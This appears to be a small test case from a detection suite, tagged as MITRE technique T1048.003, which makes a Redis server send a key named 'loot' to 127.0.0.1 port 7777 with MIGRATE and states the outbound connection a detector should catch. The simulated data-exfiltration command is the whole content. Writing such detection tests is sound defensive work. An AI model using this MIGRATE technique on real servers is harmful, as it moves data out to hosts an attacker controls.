# title: the server sends what it holds elsewhere
# attack: T1048.003
# workload: redis
# through: redis
# shows: connect tcp/7777 to 127.0.0.1 by redis-server
SET loot all
MIGRATE 127.0.0.1 7777 loot 0 500
